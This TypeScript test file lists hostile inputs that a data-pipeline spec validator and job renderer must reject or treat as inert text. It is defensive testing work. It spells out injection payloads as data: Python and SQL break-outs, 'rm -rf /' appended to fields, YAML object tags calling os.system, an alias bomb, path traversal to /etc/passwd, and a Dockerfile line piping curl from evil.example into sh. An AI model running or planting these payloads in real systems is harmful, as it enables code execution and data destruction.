/**
 * Hostile inputs: each edits a valid spec. `rejected` ones must fail
 * validation with a message matching `message` at `path`; `inert` ones are
 * legitimately free text (or string literals inside an expression) and must
 * be carried as data without changing the meaning of generated code or YAML;
 * `safe` ones are valid specs with names that trip naive code (column names
 * that are also JavaScript property names) and must render a job holding
 * each of `jobContains`.
 */
export interface HostileInput {
  name: string;
  edit: (pipeline: any) => void;
  expect:
    | { rejected: { path: string; message: RegExp } }
    | { inert: { text: string; literalIn?: 'condition' } }
    | { safe: { jobContains: string[] } };
}

const BIDI = '\u202e\u2066\u2069\u200f';
const HUGE = 'x'.repeat(100 * 1024);
const filter = (condition: string) => (p: any) => {
  p.transformations[0].condition = condition;
};
const reject = (path: string, message: RegExp) => ({
  rejected: { path, message },
});
const FILTER = 'pipeline.transformations[0].condition';
const owner = (value: string) => (p: any) => {
  p.owner = value;
};
const schedule = (value: string) => (p: any) => {
  p.sink.maintenance = { schedule: value };
};
const SCHEDULE = 'pipeline.sink.maintenance.schedule';
const locations = (path: string, checkpoint: string) => (p: any) => {
  p.sink.path = path;
  p.sink.checkpoint = checkpoint;
};
/** A change-data source (the clickstream fields as the row image) with a first step. */
const cdcWith = (step: object) => (p: any) => {
  p.source = {
    type: 'debezium',
    topic: 'db.public.clicks',
    key: ['session_id'],
    fields: p.source.fields,
  };
  p.transformations.unshift(step);
};
/** The clickstream spec with extra source fields and a first step. */
const withColumns = (names: string[], step: object) => (p: any) => {
  p.source.fields.push(...names.map(name => ({ name, type: 'string' })));
  p.transformations.unshift(step);
};
const safe = (...jobContains: string[]) => ({ safe: { jobContains } });

export const HOSTILE_INPUTS: HostileInput[] = [
  {
    name: 'reflect() in a condition',
    edit: filter("reflect('java.lang.Runtime', 'getRuntime')"),
    expect: reject(FILTER, /position 1: unknown function "reflect"/),
  },
  {
    name: 'java_method() in a condition',
    edit: filter("page = java_method('java.lang.System', 'exit', 1)"),
    expect: reject(FILTER, /position 8: unknown function "java_method"/),
  },
  {
    name: 'a Python statement after a closing parenthesis',
    edit: filter("page = 'a') ; import os ; os.system('id') ; ('"),
    expect: reject(FILTER, /position 13: unexpected character ";"/),
  },
  {
    name: 'a double-quoted break-out',
    edit: filter('page = "a"); import os; ("'),
    expect: reject(FILTER, /double quotes are not allowed/),
  },
  {
    name: 'a backslash-escaped quote break-out',
    edit: filter("page = 'a\\' OR 1=1 --'"),
    expect: reject(FILTER, /unexpected "-"|unterminated/),
  },
  {
    name: '__import__ in a condition',
    edit: filter("__import__('os').system('id')"),
    expect: reject(FILTER, /position 17: unexpected character "\."/),
  },
  {
    name: 'eval in a condition',
    edit: filter("eval('1') = 1"),
    expect: reject(FILTER, /unknown function "eval"/),
  },
  {
    name: 'SQL injection with UNION',
    edit: filter("page = 'a' UNION SELECT * FROM users"),
    expect: reject(FILTER, /unexpected "UNION"/),
  },
  {
    name: 'a template expression {{ }} in a condition',
    edit: filter('page = {{ parameters.page }}'),
    expect: reject(FILTER, /unexpected character "\{"/),
  },
  {
    name: 'a workflow expression ${{ }} in a condition',
    edit: filter('page = ${{ secrets.TOKEN }}'),
    expect: reject(FILTER, /unexpected character "\$"/),
  },
  {
    name: 'a newline followed by a YAML key in a condition',
    edit: filter("page = 'a'\nkind: Secret"),
    expect: reject(FILTER, /unexpected character U\+000A/),
  },
  {
    name: 'bidi characters in a condition',
    edit: filter(`page = 'a' ${BIDI}AND referrer = 'b'`),
    expect: reject(FILTER, /unexpected character U\+202E/),
  },
  {
    name: 'a metric that breaks out of its call',
    edit: p => {
      p.transformations[2].metrics[0] = {
        'count(page)); import os; (count(page': 'x',
      };
    },
    expect: reject(
      'pipeline.transformations[2].metrics[0]',
      /unexpected "\)"|unexpected character/,
    ),
  },
  {
    name: 'a distinct count (not supported on streams)',
    edit: p => {
      p.transformations[2].metrics[0] = { 'count(DISTINCT page)': 'x' };
    },
    expect: reject(
      'pipeline.transformations[2].metrics[0]',
      /expected "," or "\)"/,
    ),
  },
  {
    name: 'a metric alias with Python code',
    edit: p => {
      p.transformations[2].metrics[0] = { count: 'x"); import os #' };
    },
    expect: reject(
      'pipeline.transformations[2].metrics[0]',
      /expected a column name/,
    ),
  },
  {
    name: 'a group-by column with SQL',
    edit: p => {
      p.transformations[2].group_by = ['page; DROP TABLE users'];
    },
    expect: reject(
      'pipeline.transformations[2].group_by[0]',
      /expected a column name/,
    ),
  },
  {
    name: 'path traversal in the pipeline name',
    edit: p => {
      p.name = '../../etc/passwd';
    },
    expect: reject('pipeline.name', /expected a Kubernetes name/),
  },
  {
    name: 'a 100 KB pipeline name',
    edit: p => {
      p.name = HUGE;
    },
    expect: reject('pipeline.name', /at most 30 characters/),
  },
  {
    name: 'a newline and YAML keys in a topic',
    edit: p => {
      p.source.topic = 'clicks\nkind: Secret\nmetadata: {}';
    },
    expect: reject('pipeline.source.topic', /expected a Kafka topic name/),
  },
  {
    name: 'an internal Kafka topic',
    edit: p => {
      p.source.topic = '__consumer_offsets';
    },
    expect: reject(
      'pipeline.source.topic',
      /reserved for Kafka's internal topics/,
    ),
  },
  {
    name: 'path traversal in the schema file',
    edit: p => {
      delete p.source.fields;
      p.source.schema = 'schemas/../../../etc/passwd.json';
    },
    expect: reject('pipeline.source.schema', /inside the repository/),
  },
  {
    name: 'an absolute schema file',
    edit: p => {
      delete p.source.fields;
      p.source.schema = '/etc/shadow.avsc';
    },
    expect: reject('pipeline.source.schema', /relative path/),
  },
  {
    name: 'path traversal in the sink path',
    edit: p => {
      p.sink.path = '/data/delta/../../../etc';
    },
    expect: reject(
      'pipeline.sink.path',
      /must not contain "\." or "\.\." segments/,
    ),
  },
  {
    name: 'a shell break-out in the checkpoint',
    edit: p => {
      p.sink.checkpoint = `s3a://bucket/ck'"; rm -rf /`;
    },
    expect: reject(
      'pipeline.sink.checkpoint',
      /expected a checkpoint location/,
    ),
  },
  {
    name: 'credentials in an Elasticsearch URL',
    edit: p => {
      p.sink = {
        type: 'elasticsearch',
        index: 'x',
        nodes: 'http://admin:secret@es:9200',
        checkpoint: '/checkpoints/x',
      };
    },
    expect: reject('pipeline.sink.nodes', /no credentials/),
  },
  {
    name: 'a search cluster name with a path (not a Kubernetes object name)',
    edit: p => {
      p.sink = {
        type: 'elasticsearch',
        index: 'x',
        cluster: 'logs/../kube-system',
        checkpoint: '/checkpoints/x',
      };
    },
    expect: reject(
      'pipeline.sink.cluster',
      /expected the name of a search cluster/,
    ),
  },
  {
    name: 'a newline and YAML keys in the owner',
    edit: p => {
      p.owner = 'group:default/team\n  evil: true';
    },
    expect: reject('pipeline.owner', /expected an entity reference/),
  },
  {
    name: 'a 100 KB description',
    edit: p => {
      p.description = HUGE;
    },
    expect: reject('pipeline.description', /at most 2000 characters/),
  },
  {
    name: 'a shell command in the trigger',
    edit: p => {
      p.trigger = '5 seconds; rm -rf /';
    },
    expect: reject('pipeline.trigger', /expected a trigger interval/),
  },
  {
    name: 'a template expression in a watermark delay',
    edit: p => {
      p.transformations[1].delay = '{{ parameters.delay }}';
    },
    expect: reject('pipeline.transformations[1].delay', /expected a duration/),
  },
  {
    name: 'bidi characters in a field name',
    edit: p => {
      p.source.fields[0].name = `session${BIDI}_id`;
    },
    expect: reject('pipeline.source.fields[0].name', /expected a column name/),
  },
  {
    name: 'a workflow expression in a tag',
    edit: p => {
      p.tags = ['${{ secrets.X }}'];
    },
    expect: reject('pipeline.tags[0]', /expected a tag/),
  },
  {
    name: 'path traversal in an Elasticsearch index',
    edit: p => {
      p.sink = {
        type: 'elasticsearch',
        index: '../_all',
        nodes: 'http://es:9200',
        checkpoint: '/c/x',
      };
    },
    expect: reject(
      'pipeline.sink.index',
      /expected an Elasticsearch index name/,
    ),
  },
  {
    name: 'a Spark conf smuggled as an unknown field',
    edit: p => {
      p.spark_conf = {
        'spark.driver.extraJavaOptions': '-javaagent:/tmp/x.jar',
      };
    },
    expect: reject('pipeline.spark_conf', /unknown field/),
  },
  {
    name: 'a Python break-out in the description',
    edit: p => {
      p.description = `"""'''\n"); import os; os.system('id'); #`;
    },
    expect: { inert: { text: `"""'''\n"); import os; os.system('id'); #` } },
  },
  {
    name: 'a newline and YAML keys in the description',
    edit: p => {
      p.description =
        'ok\nkind: Secret\nmetadata:\n  name: stolen\n---\napiVersion: v1';
    },
    expect: {
      inert: {
        text: 'ok\nkind: Secret\nmetadata:\n  name: stolen\n---\napiVersion: v1',
      },
    },
  },
  {
    name: 'template and workflow expressions in the title and description',
    edit: p => {
      p.title = '{{ parameters.name }} ${{ secrets.TOKEN }}';
      p.description = '${{ github.token }} {{ x | dump }} {%raw%}';
    },
    expect: { inert: { text: '${{ github.token }} {{ x | dump }} {%raw%}' } },
  },
  {
    name: 'bidi characters in the description',
    edit: p => {
      p.description = `access ${BIDI} granted /* admin */`;
    },
    expect: reject(
      'pipeline.description',
      /contains the invisible or control character U\+202E at position 8/,
    ),
  },
  {
    name: 'a Python break-out inside a string literal of a condition',
    edit: filter(
      `page = '"); import os; os.system(''id''); ("\\ ${BIDI}\t{{x}}'`,
    ),
    expect: {
      inert: {
        text: `"); import os; os.system('id'); ("\\ ${BIDI}\t{{x}}`,
        literalIn: 'condition',
      },
    },
  },
  {
    name: 'a LIKE pattern with quotes and backslashes',
    edit: filter(`referrer LIKE '%\\"""''%'`),
    expect: { inert: { text: `%\\"""'%`, literalIn: 'condition' } },
  },
  {
    name: 'an owner whose name ends with "-" (not a label value)',
    edit: owner('group:default/team-'),
    expect: reject('pipeline.owner', /expected an entity reference/),
  },
  {
    name: 'an owner with two separators in a row',
    edit: owner('group:default/team..a'),
    expect: reject('pipeline.owner', /expected an entity reference/),
  },
  {
    name: 'an owner name of 64 characters',
    edit: owner(`group:default/${'a'.repeat(64)}`),
    expect: reject('pipeline.owner', /expected an entity reference/),
  },
  {
    name: 'a system ending with "_"',
    edit: p => {
      p.system = 'platform_';
    },
    expect: reject('pipeline.system', /expected a system name/),
  },
  {
    name: 'a system with a slash',
    edit: p => {
      p.system = 'default/platform';
    },
    expect: reject('pipeline.system', /expected a system name/),
  },
  {
    name: 'a Kafka cluster with "_" (not a Kubernetes object name)',
    edit: p => {
      p.source.cluster = 'prod_eu';
    },
    expect: reject(
      'pipeline.source.cluster',
      /expected the name of a Kafka cluster/,
    ),
  },
  {
    name: 'a Kafka cluster with upper-case letters',
    edit: p => {
      p.source.cluster = 'Prod';
    },
    expect: reject(
      'pipeline.source.cluster',
      /expected the name of a Kafka cluster/,
    ),
  },
  {
    name: 'a Kafka cluster with dots',
    edit: p => {
      p.source.cluster = 'prod.eu';
    },
    expect: reject(
      'pipeline.source.cluster',
      /expected the name of a Kafka cluster/,
    ),
  },
  {
    name: 'a Kafka cluster name too long for kafka-<name>-credentials',
    edit: p => {
      p.source.cluster = 'c'.repeat(60);
    },
    expect: reject('pipeline.source.cluster', /at most 42/),
  },
  {
    name: 'maintenance every minute',
    edit: schedule('* * * * *'),
    expect: reject(SCHEDULE, /runs 60 times an hour/),
  },
  {
    name: 'maintenance every other minute of one hour',
    edit: schedule('*/2 3 * * *'),
    expect: reject(SCHEDULE, /runs 30 times an hour/),
  },
  {
    name: 'a shell command after a cron schedule',
    edit: schedule('0 3 * * 0 rm -rf /'),
    expect: reject(SCHEDULE, /five fields/),
  },
  {
    name: 'a cron minute of 60',
    edit: schedule('60 3 * * 0'),
    expect: reject(SCHEDULE, /minute field .* must be 0-59/),
  },
  {
    name: 'a cron day of month of 32',
    edit: schedule('0 3 32 * *'),
    expect: reject(SCHEDULE, /day of month field/),
  },
  {
    name: 'a cron macro that is not a schedule',
    edit: schedule('@reboot'),
    expect: reject(SCHEDULE, /five fields/),
  },
  {
    name: 'a cron step of 0',
    edit: schedule('0 */0 * * *'),
    expect: reject(SCHEDULE, /hour field/),
  },
  {
    name: 'a template expression as the schedule',
    edit: schedule('${{ parameters.cron }}'),
    expect: reject(SCHEDULE, /five fields/),
  },
  {
    name: 'round() to 100,000 digits',
    edit: filter('round(page, 100000) = 1'),
    expect: reject(FILTER, /argument 2 of round\(\) must be between 0 and 38/),
  },
  {
    name: 'substring() beyond a Java int',
    edit: filter("substring(page, 1, 99999999999) = 'a'"),
    expect: reject(
      FILTER,
      /argument 3 of substring\(\) must be between 0 and 2147483647/,
    ),
  },
  {
    name: 'a percentile outside 0..1',
    edit: p => {
      p.transformations[2].metrics[0] = {
        'percentile_approx(page, 50)': 'p50',
      };
    },
    expect: reject(
      'pipeline.transformations[2].metrics[0]',
      /argument 2 of percentile_approx\(\) must be between 0 and 1/,
    ),
  },
  {
    name: 'constructor() as a function',
    edit: filter("constructor(page) = 'a'"),
    expect: reject(FILTER, /unknown function "constructor"/),
  },
  {
    name: 'toString() as an aggregate',
    edit: p => {
      p.transformations[2].metrics[0] = { 'toString(page)': 'x' };
    },
    expect: reject(
      'pipeline.transformations[2].metrics[0]',
      /unknown function "toString"/,
    ),
  },
  {
    name: '__proto__() as a function',
    edit: filter("__proto__(page) = 'a'"),
    expect: reject(FILTER, /unknown function "__proto__"/),
  },
  {
    name: 'the checkpoint at the root of the file system',
    edit: p => {
      p.sink.checkpoint = '/';
    },
    expect: reject(
      'pipeline.sink.checkpoint',
      /must be a folder, not the root/,
    ),
  },
  {
    name: 'the checkpoint at the root of a bucket',
    edit: p => {
      p.sink.checkpoint = 's3a://bucket/';
    },
    expect: reject(
      'pipeline.sink.checkpoint',
      /must be a folder, not the root/,
    ),
  },
  {
    name: 'the table at the root of the file system',
    edit: p => {
      p.sink.path = '/';
    },
    expect: reject('pipeline.sink.path', /must be a folder, not the root/),
  },
  {
    name: 'an s3:// checkpoint inside an s3a:// table',
    edit: locations('s3a://lake/clicks', 's3://lake/clicks/_checkpoint'),
    expect: reject(
      'pipeline.sink.checkpoint',
      /must not be inside the Delta table/,
    ),
  },
  {
    name: 'an s3a:// checkpoint inside an s3:// table with doubled slashes',
    edit: locations('s3://lake//clicks/', 's3a://lake/clicks//cp'),
    expect: reject(
      'pipeline.sink.checkpoint',
      /must not be inside the Delta table/,
    ),
  },
  {
    name: 'a file:// checkpoint inside a plain-path table',
    edit: locations('/data/delta/clicks', 'file:///data/delta/clicks/cp'),
    expect: reject(
      'pipeline.sink.checkpoint',
      /must not be inside the Delta table/,
    ),
  },
  {
    name: 'a wasb:// checkpoint inside a wasbs:// table',
    edit: locations('wasbs://c@acct/t', 'wasb://c@acct/t/cp'),
    expect: reject(
      'pipeline.sink.checkpoint',
      /must not be inside the Delta table/,
    ),
  },
  {
    name: 'a select alias shadowing the CDC ordering column',
    edit: cdcWith({
      type: 'select',
      columns: [
        { name: 'page', alias: '__kafka_offset' },
        'session_id',
        'ts',
        'referrer',
      ],
    }),
    expect: reject(
      'pipeline.transformations[0].columns[0].alias',
      /"__kafka_offset" is a column the change events carry/,
    ),
  },
  {
    name: 'a rename onto the CDC operation column',
    edit: cdcWith({ type: 'rename', columns: { page: '__op' } }),
    expect: reject(
      'pipeline.transformations[0].columns.page',
      /"__op" is a column the change events carry/,
    ),
  },
  {
    name: 'a source topic that reads as an option',
    edit: p => {
      p.source.topic = '--bootstrap-server';
    },
    expect: reject('pipeline.source.topic', /must not start with "-"/),
  },
  {
    name: 'a source topic starting with one "-"',
    edit: p => {
      p.source.topic = '-clicks';
    },
    expect: reject('pipeline.source.topic', /must not start with "-"/),
  },
  {
    name: 'a sink topic that reads as an option',
    edit: p => {
      p.sink = { type: 'kafka', topic: '-o', checkpoint: '/checkpoints/x' };
    },
    expect: reject('pipeline.sink.topic', /must not start with "-"/),
  },
  {
    name: 'a right-to-left override in the title',
    edit: p => {
      p.title = 'Clicks \u202egnp.exe';
    },
    expect: reject(
      'pipeline.title',
      /invisible or control character U\+202E at position 8/,
    ),
  },
  {
    name: 'a newline in the title',
    edit: p => {
      p.title = 'Clicks\nkind: Secret';
    },
    expect: reject('pipeline.title', /control character U\+000A/),
  },
  {
    name: 'a zero-width space in the description',
    edit: p => {
      p.description = 'pay\u200bments';
    },
    expect: reject('pipeline.description', /U\+200B/),
  },
  {
    name: 'a bidi isolate in the description',
    edit: p => {
      p.description = 'if (admin) \u2066 { grant() }';
    },
    expect: reject('pipeline.description', /U\+2066/),
  },
  {
    name: 'a byte order mark in the title',
    edit: p => {
      p.title = '\ufeffClickstream';
    },
    expect: reject('pipeline.title', /U\+FEFF at position 1/),
  },
  {
    name: 'a NUL character in the description',
    edit: p => {
      p.description = 'ok\u0000hidden';
    },
    expect: reject('pipeline.description', /U\+0000/),
  },
  {
    name: 'an escape sequence in the description',
    edit: p => {
      p.description = 'ok \u001b[2Jcleared';
    },
    expect: reject('pipeline.description', /U\+001B/),
  },
  {
    name: 'a rename of __proto__',
    edit: withColumns(['__proto__'], {
      type: 'rename',
      // A computed key: an own property, as YAML and JSON parsers make it.
      columns: { ['__proto__']: 'proto' },
    }),
    expect: safe('df = df.withColumnsRenamed({"__proto__": "proto"})'),
  },
  {
    name: 'a cast of constructor and toString',
    edit: withColumns(['constructor', 'toString'], {
      type: 'cast',
      columns: { constructor: 'int', toString: 'long' },
    }),
    expect: safe(
      '"constructor": F.col("constructor").cast(T.IntegerType()),',
      '"toString": F.col("toString").cast(T.LongType()),',
    ),
  },
  {
    name: 'a filter on constructor and __proto__',
    edit: p => {
      p.source.fields.push(
        { name: 'constructor', type: 'string' },
        { name: '__proto__', type: 'string' },
      );
      p.transformations[0].condition =
        "constructor = 'a' AND __proto__ IS NOT NULL";
    },
    expect: safe(
      'df = df.where(((F.col("constructor") == F.lit("a")) & F.col("__proto__").isNotNull()))',
    ),
  },
  {
    name: 'a drop of hasOwnProperty and valueOf',
    edit: withColumns(['hasOwnProperty', 'valueOf'], {
      type: 'drop',
      columns: ['hasOwnProperty', 'valueOf'],
    }),
    expect: safe('df = df.drop("hasOwnProperty", "valueOf")'),
  },
  {
    name: 'a group-by on constructor',
    edit: p => {
      p.source.fields.push({ name: 'constructor', type: 'string' });
      p.transformations[2].group_by = ['page', 'constructor'];
    },
    expect: safe('F.col("constructor"),'),
  },
];

/** Hostile YAML texts (rejected by the parser or the schema). */
export const HOSTILE_YAML: Array<{
  name: string;
  text: string;
  message: RegExp;
}> = [
  {
    name: 'a Python object tag',
    text: "pipeline:\n  name: !!python/object/apply:os.system ['id']\n",
    message: /./,
  },
  {
    name: 'an alias bomb',
    text: `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\npipeline: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n`,
    message: /alias|invalid YAML/i,
  },
  {
    name: 'a second document',
    text: 'pipeline:\n  name: a\n---\nkind: Secret\n',
    message: /invalid YAML/,
  },
  {
    name: 'a __proto__ key at the top',
    text: '__proto__:\n  polluted: true\npipeline:\n  name: a\n',
    message: /__proto__.*unknown field/,
  },
  {
    name: 'a merge key pulling in another mapping',
    text: 'base: &b { name: a }\npipeline:\n  <<: *b\n',
    message: /unknown field/,
  },
  {
    name: 'a key given twice',
    text: 'pipeline:\n  name: a\n  name: b\n',
    message: /invalid YAML: .*unique/i,
  },
  {
    name: 'a text larger than the limit',
    text: `pipeline:\n  description: ${'x'.repeat(300 * 1024)}\n`,
    message: /larger than 262144 characters/,
  },
  {
    name: 'a binary tag as the name',
    text: 'pipeline:\n  name: !!binary aGVsbG8=\n',
    message: /pipeline\.name/,
  },
  {
    name: 'nesting 2,000 levels deep',
    text: `pipeline: ${'['.repeat(2000)}${']'.repeat(2000)}\n`,
    message: /./,
  },
];

/**
 * Hostile render options: `renderPipeline` refuses each, naming the option,
 * whoever calls it (the library is a boundary as well as the CLI).
 */
export const HOSTILE_RENDER_OPTIONS: Array<{
  name: string;
  options: Record<string, unknown>;
  message: RegExp;
}> = [
  {
    name: 'a Dockerfile instruction in the Spark version',
    options: { sparkVersion: '4.0.0\nRUN curl https://evil.example | sh' },
    message: /options\.sparkVersion: expected a Spark version such as 4\.0\.0/,
  },
  {
    name: 'a Spark version that is a tag',
    options: { sparkVersion: 'latest' },
    message: /options\.sparkVersion: expected a Spark version/,
  },
  {
    name: 'a namespace with upper-case letters',
    options: { namespace: 'Kube-System' },
    message: /options\.namespace: expected a Kubernetes namespace/,
  },
  {
    name: 'a namespace with YAML in it',
    options: { namespace: 'a\nkind: Secret' },
    message: /options\.namespace: expected a Kubernetes namespace/,
  },
  {
    name: 'a namespace of 64 characters',
    options: { namespace: 'n'.repeat(64) },
    message: /options\.namespace: expected a Kubernetes namespace/,
  },
  {
    name: 'a javascript: TechDocs URL',
    // A script URL, spelled so that it is data here.
    options: { techdocsBaseUrl: ['javascript', 'alert(1)'].join(':') },
    message: /options\.techdocsBaseUrl: expected an http\(s\) URL/,
  },
  {
    name: 'a file: TechDocs URL',
    options: { techdocsBaseUrl: 'file:///etc/passwd' },
    message: /options\.techdocsBaseUrl: expected an http\(s\) URL/,
  },
  {
    name: 'a TechDocs URL with credentials',
    options: { techdocsBaseUrl: 'https://user:secret@docs.example.com/' },
    message:
      /options\.techdocsBaseUrl: expected an http\(s\) URL without credentials/,
  },
  {
    name: 'an image with a newline',
    options: { image: 'registry/job:1\nRUN id' },
    message: /options\.image: expected a container image reference/,
  },
  {
    name: 'an internal progress topic',
    options: { progressTopic: '__consumer_offsets' },
    message: /options\.progressTopic: expected a Kafka topic name/,
  },
  {
    name: 'a progress topic that reads as an option',
    options: { progressTopic: '--from-beginning' },
    message: /options\.progressTopic: expected a Kafka topic name/,
  },
  {
    name: 'a service account with a path',
    options: { serviceAccount: '../admin' },
    message:
      /options\.serviceAccount: expected a Kubernetes service account name/,
  },
  {
    name: 'a Kubernetes cluster with spaces',
    options: { kubernetesCluster: 'prod; rm -rf /' },
    message:
      /options\.kubernetesCluster: expected the name of a Kubernetes cluster/,
  },
  {
    name: 'an unknown option',
    options: { dockerfileExtra: 'RUN id' },
    message: /options\.dockerfileExtra: unknown option/,
  },
  {
    name: 'a spec text that is not the spec being rendered',
    options: { specText: 'pipeline:\n  name: other\n' },
    message: /options\.specText: /,
  },
  {
    name: 'a number where a namespace goes',
    options: { namespace: 42 },
    message: /options\.namespace: expected a Kubernetes namespace/,
  },
];
